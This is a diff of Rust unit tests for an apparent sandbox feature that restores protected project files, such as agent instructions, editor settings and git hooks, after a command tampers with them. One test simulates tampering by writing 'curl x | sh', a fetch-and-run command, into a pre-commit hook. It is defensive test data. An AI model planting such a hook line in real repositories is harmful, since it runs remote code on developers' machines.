+    /// A typical project: other agents' instructions, an editor's settings and husky's hooks.
+    fn typical_project(root: &Path) {
+        std::fs::write(
+            root.join("AGENTS.md"),
+            "the person's instructions\n".repeat(40),
+        )
+        .unwrap();
+        std::fs::create_dir_all(root.join(".vscode")).unwrap();
+        for name in [
+            "settings.json",
+            "tasks.json",
+            "extensions.json",
+            "launch.json",
+        ] {
+            std::fs::write(root.join(".vscode").join(name), "{}\n".repeat(30)).unwrap();
+        }
+        std::fs::create_dir_all(root.join(".husky/_")).unwrap();
+        for hook in ["pre-commit", "commit-msg", "pre-push"] {
+            std::fs::write(root.join(".husky").join(hook), "npx lint-staged\n").unwrap();
+            std::fs::write(
+                root.join(".husky/_").join(hook),
+                ". \"$(dirname \"$0\")/h\"\n",
+            )
+            .unwrap();
+        }
+        std::fs::write(root.join(".husky/_/h"), "#!/usr/bin/env sh\n".repeat(20)).unwrap();
+        std::fs::write(root.join("README.md"), "not protected").unwrap();
+    }
+
+    #[test]
+    fn existing_protected_entries_are_kept_and_put_back() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path();
+        typical_project(root);
+        let kept = Kept::look_protected(root, Vec::new()).unwrap();
+        let names: Vec<&Path> = kept.iter().map(|k| k.rel.as_path()).collect();
+        assert_eq!(names.len(), 3, "{names:?}");
+        for kept in &kept {
+            assert!(kept.sweep(root).is_empty());
+        }
+        // Unchanged since the last copy: taken from it, and still nothing to put back.
+        let kept = Kept::look_protected(root, kept).unwrap();
+        std::fs::write(root.join(".husky/pre-commit"), "curl x | sh\n").unwrap();
+        std::fs::remove_file(root.join("AGENTS.md")).unwrap();
+        std::fs::write(root.join(".vscode/new.json"), "{}").unwrap();
+        let lines: Vec<String> = kept.iter().flat_map(|k| k.sweep(root)).collect();
+        assert_eq!(lines.len(), 3, "{lines:?}");
+        assert_eq!(
+            std::fs::read_to_string(root.join(".husky/pre-commit")).unwrap(),
+            "npx lint-staged\n"
+        );
+        assert!(root.join("AGENTS.md").is_file());
+        assert!(!root.join(".vscode/new.json").exists());
+    }
+
+    /// What keeping the protected entries costs a command at the landlock level in a typical
+    /// project (the copy taken from the last one, then the comparison after it):
+    /// `cargo test -p tools --release -- --ignored --nocapture protected_keeping_cost`.
+    #[test]
+    #[ignore = "a measurement, not a check"]
+    fn protected_keeping_cost() {
+        let tmp = tempfile::tempdir().unwrap();
+        let root = tmp.path();
+        typical_project(root);
+        let mut kept = Kept::look_protected(root, Vec::new()).unwrap();
+        const ROUNDS: u32 = 2_000;
+        let start = std::time::Instant::now();
+        for _ in 0..ROUNDS {
+            kept = Kept::look_protected(root, kept).unwrap();
+            for entry in &kept {
+                assert!(entry.sweep(root).is_empty());
+            }
+        }
+        eprintln!(
+            "keeping the protected entries: {:?} per command",
+            start.elapsed() / ROUNDS
+        );
+    }
+
     #[test]
     fn the_kept_gg_is_read_again_where_it_changed() {
         let tmp = tempfile::tempdir().unwrap();
         let root = tmp.path();
         std::fs::create_dir_all(root.join(".gg/memory")).unwrap();
         std::fs::write(root.join(".gg/memory/MEMORY.md"), "first").unwrap();
-        let kept = GgKept::look(root, None).unwrap();
+        let kept = Kept::look(root, None).unwrap();
         assert!(kept.sweep(root).is_empty());
         std::fs::write(root.join(".gg/memory/MEMORY.md"), "later").unwrap();
-        let kept = GgKept::look(root, Some(kept)).unwrap();
+        let kept = Kept::look(root, Some(kept)).unwrap();
         // The command's change, then the sweep.
         std::fs::write(root.join(".gg/memory/MEMORY.md"), "THEIRS").unwrap();
         let lines = kept.sweep(root);
@@ -2424,7 +2658,7 @@ mod tests {
             "later"
         );
         // Unchanged since: taken from the copy, and still what is there.
-        let kept = GgKept::look(root, Some(kept)).unwrap();
+        let kept = Kept::look(root, Some(kept)).unwrap();
         assert!(kept.sweep(root).is_empty());
     }
 
